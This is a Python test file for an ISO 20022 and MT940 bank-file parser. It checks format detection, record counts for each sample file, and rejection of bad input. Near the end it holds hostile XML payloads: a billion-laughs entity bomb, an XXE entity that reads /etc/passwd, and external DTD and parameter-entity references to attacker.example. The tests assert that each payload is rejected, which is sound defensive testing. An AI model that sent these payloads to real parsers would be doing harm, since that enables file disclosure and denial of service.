"""Format detection by content, the whole-sample table, and hostile XML: every shared sample either
parses into the expected number of records or is rejected with a located error."""

from __future__ import annotations

import pytest

from scf.adapters.files.bank_detect import detect_bank_format, parse_bank_file
from scf.adapters.files.camt import parse_camt
from scf.adapters.files.pain002 import parse_pain002
from scf.adapters.files.xml_safety import parse_xml
from scf.domain.bank_files import FileError

from ._samples import FOLDERS, read_sample, sample_names

pytestmark = pytest.mark.unit

# file -> (detected format, statements, entries, statuses, errors as (line, code))
EXPECTED: dict[str, tuple[str | None, int, int, int, list[tuple[int, str]]]] = {
    "camt053/dvbern_postfinance_camt053_2016.xml": ("camt.053", 1, 13, 0, []),
    "camt053/genkgo_v2_five_decimals.xml": ("camt.053", 1, 1, 0, []),
    "camt053/genkgo_v2_multi_statement.xml": ("camt.053", 2, 2, 0, []),
    "camt053/genkgo_v2_wrong_no_stmt.xml": ("camt.053", 0, 0, 0, [(3, "NO_STATEMENTS")]),
    "camt053/genkgo_v8_multicurrency.xml": ("camt.053", 1, 1, 0, []),
    "camt053/moov_FI_camt053_batch.xml": ("camt.053", 1, 10, 0, []),
    "camt054/dvbern_pending_and_reversed.xml": ("camt.054", 1, 3, 0, []),
    "camt054/genkgo_v4_batch.xml": ("camt.054", 1, 1, 0, []),
    "camt054/genkgo_v8_uetr.xml": ("camt.054", 1, 1, 0, []),
    "camt054/moov_postfinance_camt054_debit.xml": ("camt.054", 1, 1, 0, []),
    "camt054/moov_postfinance_camt054_return.xml": ("camt.054", 1, 1, 0, []),
    "mt940/wolph_betterplace_sepa_mt9401.sta": ("mt940", 26, 97, 0, []),
    "mt940/wolph_citi.txt": ("mt940", 1, 5, 0, []),
    "mt940/wolph_february_30.sta": ("mt940", 1, 0, 0, [(6, "INVALID_DATE")]),
    "mt940/wolph_jejik_abnamro.sta": ("mt940", 2, 10, 0, []),
    "mt940/wolph_mbank_mt942.sta": ("mt940", 1, 3, 0, []),
    "pain001/gs_pain001_001_08.xml": (None, 0, 0, 0, [(1, "UNKNOWN_FORMAT")]),
    "pain001/moov_iso_mug_pain001_v03.xml": (None, 0, 0, 0, [(1, "UNKNOWN_FORMAT")]),
    "pain001/moov_lt_sepa_pain001.xml": (None, 0, 0, 0, [(1, "UNKNOWN_FORMAT")]),
    "pain002/moov_invalid_pain002_no_ns.xml": ("pain.002", 0, 0, 0, [(1, "NAMESPACE_MISSING")]),
    "pain002/moov_six_pain002_grp_actc.xml": ("pain.002", 0, 0, 1, []),
    "pain002/moov_six_pain002_part.xml": ("pain.002", 0, 0, 2, []),
    "pain002/moov_six_pain002_tx_rjct_ac01.xml": ("pain.002", 0, 0, 2, []),
}
ISO = "urn:iso:std:iso:20022:tech:xsd:"


def test_every_sample_is_in_the_table() -> None:
    assert sorted(EXPECTED) == sample_names(*FOLDERS)


@pytest.mark.parametrize("name", sorted(EXPECTED))
def test_sample_parses_or_is_rejected_with_a_located_error(name: str) -> None:
    data = read_sample(name)
    fmt, statements, entries, statuses, errors = EXPECTED[name]
    assert detect_bank_format(data) == fmt
    result = parse_bank_file(data)
    assert result.format == fmt
    assert (len(result.statements), len(result.entries), len(result.statuses)) == (
        statements,
        entries,
        statuses,
    )
    assert [(e.line, e.code) for e in result.errors] == errors
    assert result.rejected == (statements == 0 and statuses == 0)
    assert all(e.line >= 1 and e.message for e in result.errors)


@pytest.mark.parametrize(
    ("head", "expected"),
    [
        (b"\xef\xbb\xbf<Document xmlns='urn:iso:std:iso:20022:tech:xsd:camt.054.001.08'/>", "camt.054"),
        (
            f"<n:Document xmlns:n='{ISO}camt.053.001.02'><n:BkToCstmrStmt/></n:Document>".encode(),
            "camt.053",
        ),
        (b"<!-- a > b --><Document xmlns='http://x/pain.002.001.03.ch.02.xsd'/>", "pain.002"),
        (b"<Document><BkToCstmrDbtCdtNtfctn/></Document>", "camt.054"),
        (
            f"<Document xmlns='{ISO}camt.052.001.08'><BkToCstmrAcctRpt/></Document>".encode(),
            None,
        ),
        (
            f"<Document xmlns='{ISO}pain.001.001.03'><CstmrCdtTrfInitn/></Document>".encode(),
            None,
        ),
        (
            b"{1:F01BANKDEFFAXXX0000000000}{2:O940}{4:\r\n:20:A\r\n:25:B\r\n:28C:1\r\n:60F:C230101EUR1,\r\n-}",
            "mt940",
        ),
        (b":20:A\n:25:B\n:28C:1/1\n:34F:PLN0\n:13D:1701191815+0100\n", "mt940"),
        (b":20:only a reference\n", None),
        (b"supplier_id,name\n", None),
        (b"", None),
        (b"\x00\xff" * 100, None),
    ],
)
def test_detection_reads_content_only(head: bytes, expected: str | None) -> None:
    assert detect_bank_format(head) == expected


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<Document xmlns="urn:iso:std:iso:20022:tech:xsd:camt.053.001.02"><BkToCstmrStmt>&lol3;</BkToCstmrStmt>
</Document>"""
EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE d [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<Document xmlns="urn:iso:std:iso:20022:tech:xsd:camt.053.001.02"><BkToCstmrStmt>&xxe;</BkToCstmrStmt>
</Document>"""
EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE Document SYSTEM "http://attacker.example/evil.dtd">
<Document xmlns="urn:iso:std:iso:20022:tech:xsd:pain.002.001.03"/>"""
PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE d [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]>
<Document xmlns="urn:iso:std:iso:20022:tech:xsd:camt.054.001.04"/>"""


@pytest.mark.parametrize("data", [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD, PARAMETER_ENTITY])
def test_doctype_entities_and_external_references_are_rejected_never_expanded(data: bytes) -> None:
    assert parse_bank_file(data).format is not None
    for parse in (parse_bank_file, parse_camt, parse_pain002):
        result = parse(data)
        assert result.rejected
        assert [(e.line, e.code) for e in result.errors] == [(2, "DOCTYPE_FORBIDDEN")]


def test_oversized_file_is_rejected_before_parsing() -> None:
    data = b"<Document xmlns='urn:iso:std:iso:20022:tech:xsd:camt.053.001.02'>" + b" " * 2048 + b"</Document>"
    result = parse_camt(data, max_bytes=1024)
    assert [(e.line, e.code) for e in result.errors] == [(1, "FILE_TOO_LARGE")]
    assert parse_camt(data).errors[0].code == "UNEXPECTED_ELEMENT"


def test_deep_nesting_is_rejected() -> None:
    deep = (
        b"<Document xmlns='urn:iso:std:iso:20022:tech:xsd:camt.053.001.02'>\n"
        + b"<a>" * 5000
        + b"</a>" * 5000
        + b"</Document>"
    )
    result = parse_camt(deep)
    assert [(e.line, e.code) for e in result.errors] == [(2, "TOO_DEEP")]
    error = parse_xml(b"<a>" * 11 + b"</a>" * 11, max_depth=10)
    assert isinstance(error, FileError) and error.code == "TOO_DEEP"
    assert not isinstance(parse_xml(b"<a>" * 10 + b"</a>" * 10, max_depth=10), FileError)


def test_malformed_xml_reports_its_line() -> None:
    data = f"<?xml version='1.0'?>\n<Document xmlns='{ISO}camt.053.001.02'>\n<BkToCstmrStmt>\n</Document>"
    result = parse_bank_file(data.encode())
    assert result.format == "camt.053"
    ((line, code),) = [(e.line, e.code) for e in result.errors]
    assert (line, code) == (4, "MALFORMED_XML")


def test_empty_and_wrongly_encoded_files_are_rejected() -> None:
    assert [e.code for e in parse_camt(b"  \n").errors] == ["EMPTY_FILE"]
    latin = f"<?xml version='1.0'?><Document xmlns='{ISO}camt.053.001.02'>Zürich</Document>"
    assert [e.code for e in parse_camt(latin.encode("latin-1")).errors] == ["MALFORMED_XML"]
